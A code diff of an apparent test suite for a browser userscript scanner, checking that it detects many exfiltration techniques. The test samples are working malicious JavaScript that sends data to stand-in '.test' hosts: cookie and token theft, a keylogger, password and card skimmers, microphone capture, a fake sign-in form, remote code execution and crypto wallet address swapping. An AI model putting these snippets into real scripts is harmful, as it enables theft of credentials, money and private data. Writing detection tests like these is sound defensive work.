@@ -4,49 +4,99 @@ import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-
 const browser = openTestBrowser();
 afterAll(() => browser.close());
 
-/** Ways out that need no waiting, all in one script: each to a host of its own. */
+/** Each snippet in a world of its own, speaking to `<name>.test`. */
+const together = (snippets: Readonly<Record<string, string>>) =>
+	Object.entries(snippets)
+		.map(([name, body]) => `(async (at) => { ${body} })('https://${name}.test').catch(() => 0);`)
+		.join("\n");
+const hostsOf = (evidence: readonly { readonly host: string | null }[]) =>
+	[...new Set(evidence.map(({ host }) => host?.split(".").slice(-2)[0]))].toSorted();
+
+/** Ways out of a page; each must be seen by itself. */
 const WAYS = {
-	fetch: "fetch(at('fetch') + '/' + btoa(c), { mode: 'no-cors' })",
-	xhr: "const x = new XMLHttpRequest(); x.open('POST', at('xhr')); x.send(c)",
-	header: "fetch(at('header'), { headers: { 'x-note': c } })",
-	beacon: "navigator.sendBeacon(at('beacon'), new Blob([c]))",
-	image: "new Image().src = at('image') + '/?' + escape(c)",
-	style: "document.body.style.background = 'url(' + at('style') + '/' + encodeURIComponent(c) + ')'",
+	fetch: "fetch(at + '/' + btoa(c), { mode: 'no-cors' })",
+	xhr: "const x = new XMLHttpRequest(); x.open('POST', at); x.send(c)",
+	header: "fetch(at, { headers: { 'x-note': c } })",
+	beacon: "navigator.sendBeacon(at, new Blob([c]))",
+	image: "new Image().src = at + '/?' + escape(c)",
+	style: "document.body.style.background = 'url(' + at + '/' + encodeURIComponent(c) + ')'",
 	sheet:
-		"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at('sheet') + '/?' + c }))",
-	font: "new FontFace('x', 'url(' + at('font') + '/' + encodeURIComponent(c) + ')').load().catch(() => 0)",
-	frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: at('frame') + '/?' + c }))",
+		"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at + '/?' + c }))",
+	font: "new FontFace('x', 'url(' + at + '/' + encodeURIComponent(c) + ')').load()",
+	frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: at + '/?' + c }))",
 	prefetch:
-		"document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at('prefetch') + '/?' + c }))",
-	socket:
-		"const s = new WebSocket(at('socket').replace('https', 'wss')); s.onopen = () => s.send([...c].reverse().join(''))",
-	source: "new EventSource(at('source') + '/?' + c)",
-	popup: "window.open(at('popup') + '/?' + c)",
-	worker: "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(at('worker') + '/?' + c) + ')'])))",
-	form: "const f = Object.assign(document.createElement('form'), { action: at('form'), method: 'post', target: '_blank' }); f.innerHTML = '<input name=n>'; f.firstChild.value = c; document.body.append(f); f.submit()",
+		"document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at + '/?' + c }))",
+	socket: "const s = new WebSocket(at.replace('https', 'wss')); s.onopen = () => s.send([...c].reverse().join(''))",
+	source: "new EventSource(at + '/?' + c)",
+	popup: "window.open(at + '/?' + c)",
+	worker: "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(at + '/?' + c) + ')'])))",
+	form: "const f = Object.assign(document.createElement('form'), { action: at, method: 'post', target: '_blank' }); f.innerHTML = '<input name=n>'; f.firstChild.value = c; document.body.append(f); f.submit()",
 	lookup:
-		"document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'https://' + token.slice(0, 20) + '.lookup.test' }))",
+		"document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: at.replace('lookup', token.slice(0, 20) + '.lookup') }))",
 	connection:
-		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://' + token.slice(0, 20) + '.connection.test' }))",
+		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: at.replace('connection', token.slice(0, 20) + '.connection') }))",
 	peer: "new RTCPeerConnection({ iceServers: [{ urls: 'turn:peer.test', username: token, credential: 'x' }] })",
-	codes: "fetch(at('codes'), { method: 'POST', mode: 'no-cors', body: [...c].map((s) => s.charCodeAt(0)).join(' ') })",
-	pieces: "(async () => { for (const s of token) await fetch(at('pieces') + '/?k=' + s, { mode: 'no-cors' }) })()",
+	transport: "new WebTransport(at + '/?' + token)",
+	codes: "fetch(at, { method: 'POST', mode: 'no-cors', body: [...c].map((s) => s.charCodeAt(0)).join(' ') })",
+	pieces: "for (const s of token) await fetch(at + '/?k=' + s, { mode: 'no-cors' })",
+	window: "const w = window.open(at); setTimeout(() => w.postMessage({ c }, '*'), 600)",
 };
 
-const SETUP = `const c = document.cookie, token = localStorage.getItem('token'), at = (name) => 'https://' + name + '.test';`;
+/** Kinds of secrets, with what is expected to be named. */
+const SECRETS = {
+	typed:
+		"let b = ''; addEventListener('keydown', (e) => { b += e.key; if (b.length > 30) { new Image().src = at + '/?' + b; b = '' } }, true)",
+	password:
+		"document.querySelector('[type=password]').addEventListener('change', (e) => navigator.sendBeacon(at, e.target.value))",
+	card: "const all = []; document.querySelector('#card').addEventListener('input', (e) => all.push(e.data)); document.querySelector('#payment-form').addEventListener('submit', () => navigator.sendBeacon(at, all.join('')))",
+	clipboard:
+		"addEventListener('focus', async () => { const t = await navigator.clipboard.readText(); fetch(at + '/?' + t, { mode: 'no-cors' }) })",
+	geolocation:
+		"navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude } }) => fetch(at + `/?${latitude},${longitude}`))",
+	token:
+		"const { setRequestHeader: set } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.setRequestHeader = function (n, v) { new Image().src = at + '/?' + v; return set.call(this, n, v) }",
+	storage:
+		"const r = indexedDB.open('app-data'); r.onsuccess = () => { r.result.transaction('drafts').objectStore('drafts').getAll().onsuccess = (e) => fetch(at, { method: 'PUT', body: JSON.stringify(e.target.result) }) }",
+	media:
+		"const s = await navigator.mediaDevices.getUserMedia({ audio: true }); const m = new MediaRecorder(s); m.ondataavailable = (e) => fetch(at, { method: 'POST', mode: 'no-cors', body: e.data }); m.start(200)",
+	request:
+		"const { fetch: f } = window; window.fetch = function (u, i) { if (i && i.body) f(at, { method: 'POST', mode: 'no-cors', body: i.body }); return f.apply(this, arguments) }",
+	selection:
+		"addEventListener('mouseup', () => { const t = String(getSelection()); if (t) new Image().src = at + '/?' + encodeURIComponent(t) })",
+	page: "navigator.sendBeacon(at, document.querySelector('.mail-body').innerText)",
+	address: "new Image().src = at + '/?' + encodeURIComponent(location.href)",
+};
+
+/** Ways to run what a server has answered. */
+const CODE = {
+	element: "document.head.append(Object.assign(document.createElement('script'), { src: at + '/a.js' }))",
+	module: "import(at + '/a.mjs')",
+	evaluated: "(0, eval)(await (await fetch(at + '/a')).text())",
+	json: "const { rules: { run } } = await (await fetch(at + '/a')).json(); new Function(run)()",
+	worker: "new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(at + '/a.js') + ')'])))",
+	attribute:
+		"const t = await (await fetch(at + '/a.txt')).text(); const b = document.createElement('button'); b.setAttribute('onclick', t); document.body.append(b)",
+	timer: "setTimeout(await (await fetch(at + '/a.txt')).text(), 10)",
+	kept: "if (localStorage.kept) Function(localStorage.kept)(); localStorage.kept = await (await fetch(at + '/a.txt')).text()",
+};
 
 describe("a secret that leaves", () => {
 	it("is seen on every way out", async () => {
-		const body = Object.values(WAYS).map(
-			(way) => `try { ${way.replace(/^const (\w) =/, "var $1 =")} } catch (error) { console.log(error) }`,
+		const report = await runSample(
+			browser,
+			`const c = document.cookie, token = localStorage.getItem('token');\n${together(WAYS)}`,
 		);
-		const report = await runSample(browser, `${SETUP}\n${body.join("\n")}`);
-		const hosts = report.evidence.map(({ host }) => host?.split(".").slice(-2)[0]);
-		expect([...new Set(hosts)].toSorted()).toEqual(Object.keys(WAYS).toSorted());
 		expect(report.answer).toBe("ran");
+		expect(hostsOf(report.evidence)).toEqual(Object.keys(WAYS).toSorted());
 	});
 
-	it("is seen when the page itself goes there", async () => {
+	it("is seen, whatever it is", async () => {
+		const report = await runSample(browser, together(SECRETS));
+		const expected = Object.keys(SECRETS).map((what) => `${what}>${what}.test`);
+		expect(seen(report)).toEqual(expect.arrayContaining(expected));
+	});
+
+	it("is seen when the page itself goes there, hours later", async () => {
 		const report = await runSample(
 			browser,
 			"setTimeout(() => location.assign('https://gone.test/?' + document.cookie), 3600e3)",
@@ -54,64 +104,21 @@ describe("a secret that leaves", () => {
 		expect(seen(report)).toContain("cookie>gone.test");
 	});
 
-	it.each([
-		[
-			"typed text",
-			"let b = ''; addEventListener('keydown', (e) => { b += e.key; if (b.length > 30) { new Image().src = 'https://x.test/?' + b; b = '' } }, true)",
-			"typed>x.test",
-		],
-		[
-			"a password",
-			"document.querySelector('[type=password]').addEventListener('change', (e) => navigator.sendBeacon('https://x.test', e.target.value))",
-			"password>x.test",
-		],
-		[
-			"a card number",
-			"document.querySelector('#payment-form').addEventListener('submit', (e) => fetch('https://x.test', { method: 'POST', mode: 'no-cors', body: new FormData(e.target) }))",
-			"card>x.test",
-		],
-		[
-			"the clipboard",
-			"addEventListener('focus', async () => fetch('https://x.test/?' + await navigator.clipboard.readText(), { mode: 'no-cors' }))",
-			"clipboard>x.test",
-		],
-		[
-			"the place",
-			"navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude } }) => fetch(`https://x.test/?${latitude},${longitude}`))",
-			"geolocation>x.test",
-		],
-		[
-			"the page's own requests",
-			"const { open } = XMLHttpRequest.prototype; const set = XMLHttpRequest.prototype.setRequestHeader; XMLHttpRequest.prototype.setRequestHeader = function (n, v) { new Image().src = 'https://x.test/?' + v; return set.call(this, n, v) }",
-			"token>x.test",
-		],
-		[
-			"the site's database",
-			"const r = indexedDB.open('app-data'); r.onsuccess = () => { r.result.transaction('drafts').objectStore('drafts').getAll().onsuccess = (e) => fetch('https://x.test', { method: 'PUT', body: JSON.stringify(e.target.result) }) }",
-			"storage>x.test",
-		],
-		[
-			"the microphone",
-			"navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { const m = new MediaRecorder(s); m.ondataavailable = (e) => fetch('https://x.test', { method: 'POST', mode: 'no-cors', body: e.data }); m.start(200) })",
-			"media>x.test",
-		],
-		[
-			"an answer to any window that asks",
-			"addEventListener('message', (e) => { if (e.data.type === 'who?') e.source.postMessage({ c: document.cookie }, '*') })",
-			"cookie>widgets.partner-site.test",
-		],
-		[
-			"a password that it asks for itself",
-			"setTimeout(() => { document.body.insertAdjacentHTML('beforeend', '<form class=again>Your session has expired. Sign in again <input type=password name=pass><button>Sign in</button></form>'); const f = document.querySelector('.again'); f.onsubmit = (e) => { e.preventDefault(); fetch('https://x.test', { method: 'POST', mode: 'no-cors', body: f.pass.value }) } }, 90e3)",
-			"password>x.test",
-		],
-	])("is seen: %s", async (_name, body, evidence) => {
-		expect(seen(await runSample(browser, body, ["@match *://*/*", "@run-at document-end"]))).toContain(evidence);
+	it("is seen when a form of the script asks for it, or any window that asks is answered", async () => {
+		const asks =
+			"document.body.insertAdjacentHTML('beforeend', '<form class=again>Your session has expired. Sign in again <input type=password name=pass><button>Sign in</button></form>'); const f = document.querySelector('.again'); f.onsubmit = (e) => { e.preventDefault(); fetch(at, { method: 'POST', mode: 'no-cors', body: f.pass.value }) }";
+		const answers =
+			"addEventListener('message', (e) => { if (e.data.type === 'who?') e.source.postMessage({ c: document.cookie }, '*') })";
+		const report = await runSample(
+			browser,
+			together({ asking: `setTimeout(() => { ${asks} }, 90e3)`, answering: answers }),
+		);
+		expect(seen(report)).toEqual(expect.arrayContaining(["password>asking.test", "cookie>widgets.partner-site.test"]));
 	});
 
 	it("is seen through the manager's functions, a day later, on another visit", async () => {
-		const body = `GM_setValue('seen', (GM_getValue('seen', '')) + document.cookie);
-			if (Date.now() - GM_getValue('last', 0) > 864e5) { if (GM_getValue('last')) GM_xmlhttpRequest({ method: 'POST', url: 'https://x.test/day', data: GM_getValue('seen') }); GM_setValue('last', Date.now()); }`;
+		const body = `GM_setValue('seen', GM_getValue('seen', '') + document.cookie);
+			const last = GM_getValue('last', 0); if (Date.now() - last > 864e5) { GM_setValue('last', Date.now()); if (last) GM_xmlhttpRequest({ method: 'POST', url: 'https://x.test/day', data: GM_getValue('seen') }); }`;
 		const lines = ["@match https://*/*", "@grant GM_xmlhttpRequest", "@connect x.test"];
 		expect(seen(await runSample(browser, body, lines))).toEqual(["cookie>x.test"]);
 	});
@@ -123,57 +130,45 @@ describe("a secret that leaves", () => {
 		);
 		expect(seen(report)).toEqual(["password>x.test"]);
 	});
+
+	it("is seen when the page in a frame tells the page around it", async () => {
+		const body =
+			"if (window !== window.top) addEventListener('change', (e) => parent.postMessage({ v: e.target.value }, '*'))";
+		expect(seen(await runSample(browser, body))).toEqual(["typed>portal.partner-site.test"]);
+	});
 });
 
 describe("other people's code", () => {
-	it.each([
-		[
-			"a script element",
-			"document.head.append(Object.assign(document.createElement('script'), { src: 'https://x.test/a.js' }))",
-		],
-		["import()", "import('https://x.test/a.mjs')"],
-		["eval of an answer", "fetch('https://x.test/a').then((r) => r.text()).then((t) => (0, eval)(t))"],
-		[
-			"a function from JSON",
-			"fetch('https://x.test/a').then((r) => r.json()).then(({ rules: { run } }) => new Function(run)())",
-		],
-		["a worker", "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://x.test/a.js')\"])))"],
-		[
-			"an attribute",
-			"fetch('https://x.test/a.txt').then((r) => r.text()).then((t) => { const b = document.createElement('button'); b.setAttribute('onclick', t); document.body.append(b) })",
-		],
-		[
-			"what was kept from the last visit",
-			"if (localStorage.kept) Function(localStorage.kept)(); fetch('https://x.test/a.txt').then((r) => r.text()).then((t) => { localStorage.kept = t })",
-		],
-	])("is seen when it runs: %s", async (_name, body) => {
-		expect(seen(await runSample(browser, body))).toEqual(["remote-code>x.test"]);
+	it("is seen when it runs, on every way in", async () => {
+		const { evidence } = await runSample(browser, together(CODE));
+		expect(hostsOf(evidence.filter(({ what }) => what === "remote-code"))).toEqual(Object.keys(CODE).toSorted());
+	});
+
+	it("is not what runs when its integrity is pinned, nor on a public store", async () => {
+		const body = `document.head.append(Object.assign(document.createElement('script'), { src: 'https://x.test/a.js', integrity: 'sha384-${"A".repeat(64)}', crossOrigin: 'anonymous' }), Object.assign(document.createElement('script'), { src: 'https://unpkg.com/lodash@4.17.21/lodash.js' }))`;
+		expect(seen(await runSample(browser, body))).toEqual([]);
 	});
 });
 
 describe("a wallet", () => {
-	it.each([
-		[
-			"the recipient of a payment",
-			"const p = window.ethereum, r = p.request.bind(p); p.request = (c) => { if (c.method === 'eth_sendTransaction') c.params[0].to = '0x' + 'ab'.repeat(20); return r(c) }",
-			"wallet-swap>",
-		],
-		[
-			"what is copied",
-			"addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', String(getSelection()).replace(/0x[0-9a-f]{40}/i, '0x' + 'ab'.repeat(20))); e.preventDefault() })",
-			"wallet-swap>",
-		],
-		[
-			"the address on the page",
-			"for (const e of document.querySelectorAll('#wallet span')) e.textContent = e.textContent.replace(/\\b1\\w{30,}/, '1F7mXk2QpVz9LrTd4Yb8NcWs6GhJa3UeRt')",
-			"wallet-swap>",
-		],
-		[
+	it("is watched: payments, the clipboard, the page, transactions of the script's own", async () => {
+		const other = "'0x' + 'ab'.repeat(20)";
+		const { evidence } = await runSample(
+			browser,
+			together({
+				payment: `const p = window.ethereum, r = p.request.bind(p); p.request = (c) => { if (c.params && c.params[0].value) c.params[0].to = ${other}; return r(c) }`,
+				copying: `addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', String(getSelection()).replace(/0x[0-9a-f]{40}/i, ${other})); e.preventDefault() })`,
+				page: "const e = document.querySelector('#btc-address'); e.textContent = '1F7mXk2QpVz9LrTd4Yb8NcWs6GhJa3UeRt'",
+				approval: `window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: ${other}, data: '0x095ea7b3' }] })`,
+			}),
+		);
+		const texts = evidence.map(({ description }) => description).join("\n");
+		for (const what of [
+			"page's own payment was changed",
+			"what was copied became",
+			"the page shows became",
 			"a transaction of its own",
-			"window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x' + 'ab'.repeat(20), data: '0x095ea7b3' }] })",
-			"wallet-transaction>",
-		],
-	])("is watched: %s", async (_name, body, evidence) => {
-		expect(seen(await runSample(browser, body))).toEqual([evidence]);
+		])
+			expect(texts).toContain(what);
 	});
 });
